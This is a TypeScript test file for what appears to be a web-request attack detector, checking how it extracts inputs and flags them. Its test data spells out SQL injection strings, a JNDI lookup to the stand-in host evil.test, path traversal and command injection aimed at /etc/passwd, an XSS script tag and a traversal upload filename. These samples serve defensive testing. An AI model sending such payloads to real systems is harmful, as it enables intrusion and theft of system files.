import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compileDetector, DetectOptionsError, extractInputs, type Input } from './index.ts';

const q = (value: string, name = 'q'): Input[] => [{ location: 'query', name, value }];

test('options are validated once, at compile time', () => {
  assert.throws(() => compileDetector({ paranoia: 5 as 1 }), DetectOptionsError);
  assert.throws(() => compileDetector({ threshold: -1 }), DetectOptionsError);
  assert.throws(() => compileDetector({ classes: { nope: true } as never }), /unknown attack class "nope"/);
  assert.throws(() => compileDetector({ exclusions: [{ name: 'a', allow: ['sqlx' as 'sqli'] }] }), DetectOptionsError);
  assert.doesNotThrow(() => compileDetector({ paranoia: 1, classes: { xss: false, sqli: { paranoia: 3 } } }));
});

test('a verdict names the class, the input and a short evidence', () => {
  const v = compileDetector().inspect(q(`1' OR '1'='1' -- ${'x'.repeat(500)}`, 'id'));
  assert.equal(v.blocked, true);
  const m = v.matches[0]!;
  assert.equal(m.class, 'sqli');
  assert.equal(m.location, 'query');
  assert.equal(m.name, 'id');
  assert.ok(m.evidence.length <= 81, m.evidence);
});

test('ordinary values pass', () => {
  const d = compileDetector();
  for (const value of ["O'Brien", 'jane.doe+tag@example.com', '550e8400-e29b-41d4-a716-446655440000', '42', 'Rock & roll, 1950s',
    'I tried select and union in my query but nothing worked', 'https://example.com/a?b=c', '5 > 3 and 2 < 4']) {
    assert.equal(d.inspect(q(value)).blocked, false, value);
  }
});

test('exclusions allow a class for a named input, or everything', () => {
  const payload = q("' or 1=1 --", 'filter');
  assert.equal(compileDetector({ exclusions: [{ name: 'filter', allow: ['sqli'] }] }).inspect(payload).blocked, false);
  assert.equal(compileDetector({ exclusions: [{ name: /^fil/, location: 'query', allow: 'all' }] }).inspect(payload).blocked, false);
  assert.equal(compileDetector({ exclusions: [{ name: 'filter', location: 'body', allow: 'all' }] }).inspect(payload).blocked, true);
  assert.equal(compileDetector({ classes: { sqli: false } }).inspect(payload).blocked, false);
});

test('paranoia levels add detections', () => {
  const probe = q('COALESCE(');
  assert.equal(compileDetector({ paranoia: 1 }).inspect(probe).blocked, false);
  assert.equal(compileDetector({ paranoia: 2 }).inspect(probe).blocked, true);
});

test('never throws, whatever the input', () => {
  const d = compileDetector({ paranoia: 4 });
  const weird = ['\u0000', '\ud800', '%', '%u', '%uZZZZ', '&#99999999;', '\\u{110000}', '%c0', '%ff%fe', '<'.repeat(1000), '${'.repeat(500), '<!--'];
  for (const value of weird) assert.equal(d.inspect(q(value)).error, false, JSON.stringify(value));
  assert.doesNotThrow(() => d.inspect([{ location: 'query', name: null as never, value: 42 as never }]));
  assert.doesNotThrow(() => d.inspectRequest({ method: 'POST', path: '/%', headers: { 'content-type': 'application/json' }, body: '{"a":' }));
  assert.doesNotThrow(() => d.inspectRequest({ method: 'POST', path: '/', headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: '--x\r\n\r\n' }));
});

test('long values are inspected up to the limit and the verdict says so', () => {
  const v = compileDetector({ maxValueLength: 100 }).inspect(q(`${'a'.repeat(200)}<script>`));
  assert.equal(v.truncated, true);
  assert.equal(v.blocked, false);
});

test('extractInputs: path, query with brackets, cookies, headers, JSON keys and leaves', () => {
  const inputs = extractInputs({
    method: 'POST',
    path: '/v1/users/42',
    rawQuery: 'user[$ne]=x&a=1&a=2&q=caf%C3%A9+au+lait',
    headers: { cookie: 'sid=abc; theme=dark', 'user-agent': 'ua', authorization: 'Bearer t', 'content-type': 'application/json' },
    body: '{"profile":{"name":"Ann","tags":["a"]},"__proto__":{"x":1}}',
  });
  const has = (location: string, name: string, value: string) =>
    assert.ok(inputs.some((i) => i.location === location && i.name === name && i.value === value), `${location} ${name}=${value}`);
  has('path', '', '/v1/users/42');
  has('path', '3', '42');
  has('query', 'user[$ne]', 'x');
  has('query', 'a', '2');
  has('query', 'q', 'café au lait');
  has('cookie', 'theme', 'dark');
  has('header', 'user-agent', 'ua');
  has('body', '$.profile.name', 'Ann');
  has('body', '$.profile.tags[0]', 'a');
  has('json-key', '$.__proto__', '__proto__');
  // A bearer token is inspected for lookups and line breaks only.
  assert.deepEqual(inputs.filter((i) => i.name === 'authorization'), [{ location: 'header-other', name: 'authorization', value: 'Bearer t' }]);
});

test('headers outside the full set: jndi, crlf and traversal only; a Basic user name fully', () => {
  const d = compileDetector();
  const verdict = (headers: Record<string, string>) => d.inspectRequest({ method: 'GET', path: '/', headers });
  assert.ok(verdict({ 'x-correlation-id': '${jndi:ldap://evil.test/a}' }).blocked);
  assert.ok(verdict({ 'accept-language': '../../../../etc/passwd' }).blocked);
  // Other classes are not looked for there: no false positive on a header's own grammar.
  assert.ok(!verdict({ 'if-none-match': `"1' OR '1'='1" --` }).blocked);
  assert.ok(!verdict({ accept: '<script>alert(1)</script>' }).blocked);
  assert.ok(!verdict({ authorization: 'Bearer ../../../../etc/passwd' }).blocked);
  assert.ok(verdict({ authorization: 'Bearer ${jndi:ldap://evil.test/a}' }).blocked);
  const basic = (s: string) => ({ authorization: `Basic ${Buffer.from(s).toString('base64')}` });
  const v = verdict(basic("admin' OR 1=1--:pw"));
  assert.ok(v.blocked);
  assert.deepEqual(v.matches.map((m) => [m.class, m.location, m.name]), [['sqli', 'header', 'authorization']]);
  // The password is not inspected (nor copied into an input).
  assert.ok(!verdict(basic("alice:' OR 1=1--")).blocked);
  assert.ok(!d.extract({ method: 'GET', path: '/', headers: basic('alice:secret') }).some((i) => i.value.includes('secret')));
});

test('a multipart label over a body without parts: inspected as JSON or raw text', () => {
  const d = compileDetector();
  const post = (body: string) => d.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType: 'multipart/form-data; boundary=x', body });
  assert.ok(post('{"host":"8.8.8.8; cat /etc/passwd"}').blocked);
  assert.ok(post('host=1;cat /etc/passwd').blocked);
  assert.ok(!post('{"host":"8.8.8.8"}').blocked);
});

test('extractInputs: urlencoded, multipart and XML bodies', () => {
  const form = extractInputs({ method: 'POST', path: '/', headers: {}, contentType: 'application/x-www-form-urlencoded', body: 'a=1+2&b=%3Cx%3E' });
  assert.ok(form.some((i) => i.location === 'form' && i.name === 'b' && i.value === '<x>'));
  const mp = extractInputs({
    method: 'POST',
    path: '/',
    headers: {},
    contentType: 'multipart/form-data; boundary=XX',
    body: '--XX\r\nContent-Disposition: form-data; name="title"\r\n\r\nHello\r\n--XX\r\nContent-Disposition: form-data; name="f"; filename="../a.php"\r\nContent-Type: application/octet-stream\r\n\r\nBIN\r\n--XX--\r\n',
  });
  assert.ok(mp.some((i) => i.location === 'multipart' && i.name === 'title' && i.value === 'Hello'));
  assert.ok(mp.some((i) => i.location === 'multipart' && i.name === 'f.filename' && i.value === '../a.php'));
  const xml = extractInputs({ method: 'POST', path: '/', headers: {}, contentType: 'application/xml', body: '<a x="1 &amp; 2"><b>t&lt;</b></a>' });
  assert.ok(xml.some((i) => i.location === 'xml' && i.name === '#document'));
  assert.ok(xml.some((i) => i.location === 'xml' && i.value === '1 & 2'));
  assert.ok(xml.some((i) => i.location === 'xml' && i.value === 't<'));
});

test('extractInputs: a form pair whose name is no name is also read whole; Referer parameters', () => {
  const form = extractInputs({ method: 'POST', path: '/', headers: {}, contentType: 'application/x-www-form-urlencoded', body: "a=1&'x', 'y'='y'" });
  assert.ok(form.some((i) => i.location === 'form' && i.name === 'a' && i.value === '1'));
  assert.ok(form.some((i) => i.location === 'form' && i.name === "'x', 'y'" && i.value === "'x', 'y'='y'"));
  assert.ok(!form.some((i) => i.value === 'a=1'), 'ordinary pairs are not duplicated');
  const hdr = extractInputs({ method: 'GET', path: '/', headers: { referer: 'https://a.example/p?q=one+two&r=%3Cx%3E#f=x+y' } });
  assert.ok(hdr.some((i) => i.location === 'header' && i.name === 'referer' && i.value.startsWith('https://')));
  for (const v of ['one two', '<x>', 'x y']) assert.ok(hdr.some((i) => i.location === 'header' && i.name === 'referer' && i.value === v), v);
  const v = compileDetector().inspectRequest({ method: 'GET', path: '/', rawQuery: '', headers: { referer: 'https://a.example/#x=1;cat$u+/etc$u/passwd' } });
  assert.ok(v.blocked && v.matches.some((m) => m.class === 'cmdi'));
});
